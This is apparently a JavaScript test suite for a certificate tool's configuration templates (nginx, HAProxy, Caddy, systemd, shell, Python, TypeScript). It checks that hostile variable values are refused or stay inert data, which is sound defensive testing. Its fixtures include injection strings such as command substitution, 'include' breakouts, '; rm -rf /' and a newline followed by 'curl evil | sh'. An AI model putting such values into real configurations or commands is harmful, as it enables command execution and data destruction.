// Template injection (issue 8, item 6): every template is filled with hostile values in every variable, and
// each result is either refused (exit 3 naming the variable) or handed to the real tool for its syntax —
// nginx -t/-T, haproxy -c, caddy adapt, systemd-analyze verify, bash -n and dash, python3's ast, TypeScript's
// parser, JSON.parse, the yaml package — which must read the value back intact and find no new directive or
// statement. A canary include and a canary command prove that nothing an attacker wrote was obeyed.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import ts from 'typescript';
import { parse as parseYaml } from 'yaml';
import { nginxConf } from './nginx.js';
import { hasCommand, mcpki, run, tempDir } from './helpers.js';
import { checkValue, fillTemplate, kindOf, syntaxOf } from '../dist/templates/escape.js';
import { listTemplates, renderText } from '../dist/templates/render.js';

let dir;
let cleanup;
let canary; // a file an injected include/import would read
let pwned; // a file an injected command would create
const good = {}; // a valid value for every variable
const realFiles = {};

before(() => {
  ({ dir, cleanup } = tempDir('mcpki-template-injection-'));
  const home = join(dir, 'home');
  for (const args of [
    ['init'],
    ['issue', 'server', 'web', 'web.localhost', '127.0.0.1'],
    ['issue', 'client', 'agent'],
    ['crl'],
  ]) {
    const result = mcpki(['--home', home, ...args]);
    assert.equal(result.status, 0, result.stderr);
  }
  canary = join(dir, 'canary.conf');
  writeFileSync(canary, '# canary\n');
  pwned = join(dir, 'pwned');
  const certs = join(home, 'certs');
  Object.assign(realFiles, {
    fullchain: join(certs, 'web', 'web.fullchain.pem'),
    key: join(certs, 'web', 'web.key'),
    cert: join(certs, 'web', 'web.crt'),
    chain: join(home, 'ca', 'intermediate.crt'),
    ca: join(home, 'ca', 'root.crt'),
    crl: join(home, 'ca', 'crl.pem'),
    clientFullchain: join(certs, 'agent', 'agent.fullchain.pem'),
    clientKey: join(certs, 'agent', 'agent.key'),
  });
  const combined = join(dir, 'combined.pem');
  writeFileSync(combined, readFileSync(realFiles.fullchain, 'utf8') + readFileSync(realFiles.key, 'utf8'));
  realFiles.combined = combined;
  Object.assign(good, realFiles, {
    home,
    config: join(dir, 'mcpki.yaml'),
    configDir: dir,
    node: process.execPath,
    bin: join(dir, 'bin', 'mcpki.js'),
    docs: pathToFileURL(join(dir, 'docs')).href,
    serverName: 'web.localhost',
    listen: '127.0.0.1:18443',
    listenHost: '127.0.0.1',
    listenPort: '18443',
    upstream: 'http://127.0.0.1:3000',
    upstreamAddress: '127.0.0.1:3000',
    mcpPath: '/mcp',
    url: 'https://web.localhost:8443/mcp',
    name: 'web',
    clientName: 'agent',
    entryPoint: 'websecure',
    mcpServer: 'mcpki',
    user: 'root',
    requireClientCert: 'true',
    crlDays: '7',
    reloadCommand: '/bin/true',
  });
  mkdirSync(join(dir, 'bin'));
  writeFileSync(good.bin, '');
});

after(() => cleanup?.());

/** Hostile paths: folders whose names hold what breaks out of strings in each syntax. Files exist there. */
function hostilePaths() {
  return ['with space', `q"uo'te;#%b`, 'back\\slash', `$(touch ${'P'})\`x\`{y}`, `";\n include ${'X'};`].map((folder) =>
    join(dir, 'hostile', folder),
  );
}

const CONTROL = ['\n', '\r', '\u2028', '\u2029', '\u0000', '\u001b', '\u202e', '\t', '\u0085'];

function hostileValues(variable) {
  const kind = kindOf(variable);
  const base = kind === 'command' ? `${good[variable]} x` : good[variable];
  const values = CONTROL.map((c) => `${base}${c}include ${canary};`);
  if (kind === 'path')
    for (const folder of hostilePaths()) values.push(join(folder, variable === 'node' ? 'node' : `${variable}.pem`));
  else {
    values.push(
      `${base}";include ${canary};#`,
      `${base}' ; touch ${pwned} ; '`,
      `${base}\`)||Host(\`evil`,
      `${base}$(touch ${pwned})`,
      `${base}\\"`,
      `${base} }`,
      `${base}{$HOME}`,
      `${base}}}{{x`,
    );
  }
  if (kind === 'url')
    values.push(
      `http://127.0.0.1:3000/;include${canary};`,
      `http://127.0.0.1:3000/'$(touch${pwned})'`,
      "https://it's.example/mcp",
    );
  if (kind === 'command') values.push(`/bin/true ; /usr/bin/touch ${pwned}`, `/bin/true $HOME %n`);
  return values;
}

/** Makes the files a rendered configuration reads exist at the (accepted) hostile paths. */
function materialise(variable, value) {
  if (kindOf(variable) !== 'path' || !value.startsWith(join(dir, 'hostile'))) return;
  mkdirSync(join(value, '..'), { recursive: true });
  if (variable === 'node') {
    if (!existsSync(value)) symlinkSync(process.execPath, value);
  } else if (realFiles[variable]) copyFileSync(realFiles[variable], value);
  else if (!existsSync(value)) writeFileSync(value, '');
}

// ---- the real tools -----------------------------------------------------------------------------------

function nginxCheck(text, value, variable) {
  const prefix = join(dir, `nginx-${Math.random().toString(36).slice(2)}`);
  mkdirSync(prefix);
  const file = join(prefix, 'site.conf');
  writeFileSync(file, text);
  const args = nginxConf(prefix, `    include ${file};`);
  const tested = run('nginx', ['-T', ...args]);
  assert.equal(tested.status, 0, `nginx -t refused ${variable}=${JSON.stringify(value)}: ${tested.stderr}`);
  assert.ok(!tested.stdout.includes(`# configuration file ${canary}`), 'the canary was included');
}

function haproxyCheck(text, value, variable) {
  const file = join(dir, `haproxy-${Math.random().toString(36).slice(2)}.cfg`);
  writeFileSync(file, text);
  const checked = run('haproxy', ['-c', '-f', file]);
  assert.equal(
    checked.status,
    0,
    `haproxy -c refused ${variable}=${JSON.stringify(value)}: ${checked.stderr}${checked.stdout}`,
  );
}

function caddyAdapt(text) {
  const file = join(dir, `Caddyfile-${Math.random().toString(36).slice(2)}`);
  writeFileSync(file, text);
  const adapted = run('caddy', ['adapt', '--adapter', 'caddyfile', '--config', file], {
    env: { HOME: dir, XDG_DATA_HOME: dir, XDG_CONFIG_HOME: dir },
  });
  assert.equal(adapted.status, 0, adapted.stderr);
  return JSON.parse(adapted.stdout);
}

function systemdCheck(text, value, variable, name) {
  const unitDir = join(dir, `units-${Math.random().toString(36).slice(2)}`);
  mkdirSync(unitDir);
  const unit = join(unitDir, name.split('/')[1]);
  writeFileSync(unit, text);
  if (unit.endsWith('.timer'))
    writeFileSync(unit.replace(/\.timer$/, '.service'), '[Service]\nType=oneshot\nExecStart=/bin/true\n');
  const verified = run('systemd-analyze', ['verify', unit], { cwd: unitDir });
  assert.equal(verified.status, 0, `systemd-analyze refused ${variable}=${JSON.stringify(value)}: ${verified.stderr}`);
  assert.equal(
    verified.stderr.trim(),
    '',
    `systemd-analyze has no complaint with ${variable}=${JSON.stringify(value)}`,
  );
}

/** Lines "Key=" of a unit (comments and blank lines left out): the directives systemd sees. */
const systemdKeys = (text) =>
  text
    .split('\n')
    .filter((l) => /^[A-Za-z]+=/.test(l))
    .map((l) => l.split('=')[0]);
/** First word of each statement: a strict reading of nginx/HAProxy structure (quotes honoured). */
function directives(text, syntax) {
  const out = [];
  let word = '';
  let quote = null;
  let atStart = true;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quote) {
      if (c === '\\') i++;
      else if (c === quote) quote = null;
      continue;
    }
    if (c === '#') {
      while (i < text.length && text[i] !== '\n') i++;
      if (syntax === 'haproxy') atStart = true;
      continue;
    }
    if (c === '"' || c === "'") {
      quote = c;
      atStart = false;
      continue;
    }
    const end = syntax === 'nginx' ? ';{}'.includes(c) : c === '\n';
    if (end) {
      if (word) out.push(word);
      word = '';
      atStart = true;
      if (c !== '\n' && c !== ';') out.push(c);
      continue;
    }
    if (/\s/.test(c)) {
      if (word) {
        out.push(word);
        word = '';
        atStart = false;
      }
      continue;
    }
    if (atStart) word += c;
  }
  return out;
}

function tsStatements(text) {
  const source = ts.createSourceFile('t.ts', text, ts.ScriptTarget.Latest, true);
  assert.equal(source.parseDiagnostics.length, 0, source.parseDiagnostics.map((d) => d.messageText).join('; '));
  const strings = [];
  const visit = (node) => {
    if (ts.isStringLiteral(node) || ts.isNoSubstitutionTemplateLiteral(node)) strings.push(node.text);
    ts.forEachChild(node, visit);
  };
  visit(source);
  return { count: source.statements.length, kinds: source.statements.map((s) => s.kind).join(','), strings };
}

function pythonStatements(text) {
  const file = join(dir, `py-${Math.random().toString(36).slice(2)}.py`);
  writeFileSync(file, text);
  const result = run('python3', [
    '-c',
    'import ast,json,sys\nt=ast.parse(open(sys.argv[1],encoding="utf-8").read())\nprint(json.dumps({"kinds":[type(s).__name__ for s in t.body],"strings":[n.value for n in ast.walk(t) if isinstance(n,ast.Constant) and isinstance(n.value,str)]}))',
    file,
  ]);
  assert.equal(result.status, 0, result.stderr);
  return JSON.parse(result.stdout);
}

function shellValues(text) {
  const file = join(dir, `sh-${Math.random().toString(36).slice(2)}.sh`);
  writeFileSync(file, text);
  assert.equal(run('bash', ['-n', file]).status, 0, 'bash -n');
  const header = text.slice(text.indexOf('\nurl='), text.indexOf('\nheaders='));
  const shown = run('dash', ['-c', `${header}\nprintf '%s\\n' "$url" "$ca" "$cert" "$key"`]);
  assert.equal(shown.status, 0, shown.stderr);
  return shown.stdout.split('\n').slice(0, 4);
}

const strings = (value) =>
  typeof value === 'string' ? [value] : value && typeof value === 'object' ? Object.values(value).flatMap(strings) : [];
const shape = (value) =>
  Array.isArray(value)
    ? value.map(shape)
    : value && typeof value === 'object'
      ? Object.fromEntries(Object.entries(value).map(([k, v]) => [k, shape(v)]))
      : typeof value;

/** Proves, with the tool for the template's syntax, that `value` stayed data: same structure as `baseline`, value read back. */
function prove(name, variable, value, text, baseline) {
  const syntax = syntaxOf(name);
  switch (syntax) {
    case 'json':
      assert.deepEqual(shape(JSON.parse(text)), shape(JSON.parse(baseline)));
      assert.ok(
        strings(JSON.parse(text)).some((s) => s.includes(value)),
        'value read back',
      );
      return;
    case 'yaml':
      assert.deepEqual(shape(parseYaml(text)), shape(parseYaml(baseline)));
      assert.ok(
        strings(parseYaml(text)).some((s) => s.includes(value)) || text.split('\n').some((l) => l.startsWith('#')),
        'value read back',
      );
      return;
    case 'js': {
      const got = tsStatements(text);
      const want = tsStatements(baseline);
      assert.equal(got.kinds, want.kinds, 'no new statement');
      if (!['name'].includes(variable))
        assert.ok(
          got.strings.includes(value) || got.strings.some((s) => s === value),
          `${variable} read back as a string`,
        );
      return;
    }
    case 'python': {
      const got = pythonStatements(text);
      assert.deepEqual(got.kinds, pythonStatements(baseline).kinds, 'no new statement');
      assert.ok(
        got.strings.some((s) => s === value || s.includes(value)),
        `${variable} read back`,
      );
      return;
    }
    case 'sh': {
      if (name === 'mcp/claude-code.sh') {
        // run by sh with "env" as Claude Code: the exported variables are exactly the values given
        const file = join(dir, `claude-${Math.random().toString(36).slice(2)}.sh`);
        writeFileSync(file, text);
        const shown = run('dash', [file, '-0'], { env: { PATH: process.env.PATH, CLAUDE: 'env' } });
        assert.equal(shown.status, 0, shown.stderr);
        const env = Object.fromEntries(
          shown.stdout
            .split('\0')
            .filter(Boolean)
            .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]),
        );
        const read = {
          ca: env.NODE_EXTRA_CA_CERTS,
          fullchain: env.CLAUDE_CODE_CLIENT_CERT,
          key: env.CLAUDE_CODE_CLIENT_KEY,
        }[variable];
        if (read !== undefined) assert.equal(read, value, `${variable} read back by dash`);
        assert.ok(!existsSync(pwned), 'no injected command ran');
        return;
      }
      const got = shellValues(text);
      const index = { url: 0, ca: 1, fullchain: 2, key: 3 }[variable];
      if (index !== undefined) assert.equal(got[index], value, `${variable} read back by dash`);
      assert.ok(!existsSync(pwned), 'no injected command ran');
      return;
    }
    case 'nginx':
      if (hasCommand('nginx')) nginxCheck(text, value, variable);
      assert.deepEqual(directives(text, 'nginx'), directives(baseline, 'nginx'), 'no new nginx directive');
      return;
    case 'haproxy':
      if (hasCommand('haproxy')) haproxyCheck(text, value, variable);
      assert.deepEqual(directives(text, 'haproxy'), directives(baseline, 'haproxy'), 'no new HAProxy keyword');
      return;
    case 'caddy':
      if (hasCommand('caddy')) {
        const got = caddyAdapt(text);
        assert.deepEqual(shape(got), shape(caddyAdapt(baseline)), 'the same Caddy configuration, only values differ');
        if (variable === 'fullchain' || variable === 'key')
          assert.ok(strings(got).includes(value), `${variable} read back by caddy adapt`);
      }
      return;
    case 'systemd':
      assert.deepEqual(systemdKeys(text), systemdKeys(baseline), 'no new unit directive');
      if (hasCommand('systemd-analyze')) systemdCheck(text, value, variable, name);
      return;
    default:
      assert.fail(`no proof for ${syntax}`);
  }
}

test(
  'every template, every variable, hostile values: refused naming the variable, or proven to stay data by the real tool',
  { timeout: 600_000 },
  () => {
    const templates = listTemplates().filter((t) => t.variables.length > 0);
    assert.ok(templates.length >= 15, `${templates.length} templates with variables`);
    const tally = { refused: 0, proven: 0 };
    for (const template of templates) {
      const text = readFileSync(template.path, 'utf8');
      const used = [...new Set([...text.matchAll(/\{\{\s*([A-Za-z][A-Za-z0-9_]*)\s*\}\}/g)].map((m) => m[1]))];
      const baseline = renderText(text, good, template.name);
      for (const variable of used) {
        for (const value of hostileValues(variable)) {
          const where = `${template.name} ${variable}=${JSON.stringify(value)}`;
          let rendered;
          try {
            rendered = renderText(text, { ...good, [variable]: value }, template.name);
          } catch (error) {
            assert.equal(error.code, 'INVALID_INPUT', `${where}: ${error.message}`);
            assert.match(error.message, new RegExp(`template variable ${variable}=`), where);
            assert.ok(!/[\n\r\u2028\u2029\u0000]/.test(error.message), `${where}: the message is one clean line`);
            assert.ok(error.hint, where);
            tally.refused++;
            continue;
          }
          assert.ok(
            !/[\u0000-\u0008\n\r\u2028\u2029\u001b\u202e]/.test(value),
            `${where}: a control character was accepted`,
          );
          materialise(variable, value);
          try {
            prove(template.name, variable, value, rendered, baseline);
          } catch (error) {
            error.message = `${where}: ${error.message}`;
            throw error;
          }
          tally.proven++;
        }
      }
    }
    assert.ok(!existsSync(pwned), 'no injected command ran');
    assert.ok(tally.refused > 100 && tally.proven > 50, JSON.stringify(tally));
  },
);

test(
  'paths with spaces stay one argument in ExecStart, and run',
  { skip: !hasCommand('systemd-analyze') && 'systemd-analyze is not installed' },
  () => {
    const spaced = join(dir, 'with space', 'node');
    mkdirSync(join(dir, 'with space'), { recursive: true });
    if (!existsSync(spaced)) symlinkSync(process.execPath, spaced);
    const text = readFileSync(listTemplates().find((t) => t.name === 'systemd/mcpki-renew.service').path, 'utf8');
    const unit = renderText(
      text,
      { ...good, node: spaced, bin: join(dir, 'with space', 'mcpki.js') },
      'systemd/mcpki-renew.service',
    );
    assert.match(unit, /^ExecStart="[^"]*with space\/node" "[^"]*with space\/mcpki\.js" renew/m);
    systemdCheck(unit, spaced, 'node', 'systemd/mcpki-renew.service');
    // unquoted, systemd looks for the program "…/with": the check above can fail
    const unquoted = join(dir, 'units-unquoted');
    mkdirSync(unquoted);
    writeFileSync(join(unquoted, 'x.service'), `[Service]\nType=oneshot\nExecStart=${spaced} -e 1\n`);
    assert.notEqual(
      run('systemd-analyze', ['verify', join(unquoted, 'x.service')], { cwd: unquoted }).stderr.trim(),
      '',
    );
  },
);

test('kinds: a value is checked for its variable before anything is rendered', () => {
  const bad = [
    ['listenPort', '99999'],
    ['serverName', 'web.localhost;evil'],
    ['upstream', 'file:///etc/passwd'],
    ['upstream', 'http://user:pw@127.0.0.1:3000'],
    ['fullchain', 'relative/web.pem'],
    ['requireClientCert', 'maybe'],
    ['crlDays', '7; rm -rf /'],
    ['name', 'web"'],
    ['mcpPath', '/mcp; return 200'],
    ['listen', '::1:8443'],
  ];
  for (const [variable, value] of bad)
    assert.throws(
      () => checkValue(variable, value),
      (e) => e.code === 'INVALID_INPUT' && e.message.includes(`template variable ${variable}=`),
      `${variable}=${value}`,
    );
  for (const variable of Object.keys(good)) checkValue(variable, good[variable]);
});

test('CLI: --var with a newline or U+2028 is exit 3 naming the variable; nothing is written', () => {
  const out = join(dir, 'out.sh');
  for (const value of ['https://x.test/mcp\ncurl evil | sh', 'https://x.test/mcp\u2028x']) {
    const result = mcpki([
      '--home',
      good.home,
      'template',
      'render',
      'curl/mcp-call.sh',
      '--cert',
      'web',
      '--var',
      `url=${value}`,
      '--out',
      out,
    ]);
    assert.equal(result.status, 3, result.stderr);
    assert.match(result.stderr, /^error: template variable url=/m);
    assert.match(result.stderr, /^hint: .+/m);
    assert.ok(!existsSync(out));
  }
  const ts2028 = mcpki([
    '--home',
    good.home,
    'template',
    'render',
    'mcp/server.ts',
    '--cert',
    'web',
    '--var',
    'name=x\u2028process.exit(7)',
  ]);
  assert.equal(ts2028.status, 3);
  assert.match(ts2028.stderr, /template variable name=.*U\+2028/);
});

test(
  'a declared target path with a quote and an include cannot reach nginx; with a newline the config is refused',
  { skip: !hasCommand('nginx') && 'nginx is not installed' },
  () => {
    const odd = join(dir, 'odd";include canary');
    mkdirSync(odd, { recursive: true });
    copyFileSync(realFiles.fullchain, join(odd, 'web.pem'));
    copyFileSync(realFiles.key, join(odd, 'web.key'));
    const config = join(dir, 'declared.yaml');
    writeFileSync(
      config,
      `version: 1\ncertificates:\n  - name: web\n    names: [web.localhost]\n    targets:\n      - { type: fullchain, path: ${JSON.stringify(join(odd, 'web.pem'))} }\n      - { type: key, path: ${JSON.stringify(join(odd, 'web.key'))} }\n`,
    );
    const rendered = mcpki([
      '--home',
      good.home,
      '--json',
      'template',
      'render',
      'nginx/mcp-tls.conf',
      '--cert',
      'web',
      '-c',
      config,
    ]);
    assert.equal(rendered.status, 0, rendered.stderr);
    nginxCheck(rendered.json.text, join(odd, 'web.pem'), 'fullchain');
    assert.deepEqual(
      directives(rendered.json.text, 'nginx'),
      directives(
        renderText(
          readFileSync(listTemplates().find((t) => t.name === 'nginx/mcp-tls.conf').path, 'utf8'),
          good,
          'nginx/mcp-tls.conf',
        ),
        'nginx',
      ),
    );

    writeFileSync(
      config,
      `version: 1\ncertificates:\n  - name: web\n    names: [web.localhost]\n    targets:\n      - { type: fullchain, path: "${dir}/x\\";\\n include ${canary};" }\n      - { type: key, path: ${JSON.stringify(join(odd, 'web.key'))} }\n`,
    );
    const refused = mcpki([
      '--home',
      good.home,
      'template',
      'render',
      'nginx/mcp-tls.conf',
      '--cert',
      'web',
      '-c',
      config,
    ]);
    assert.equal(refused.status, 3, refused.stderr);
    assert.match(refused.stderr, /targets\[0\]\.path/);
    assert.match(refused.stderr, /newline/);
  },
);
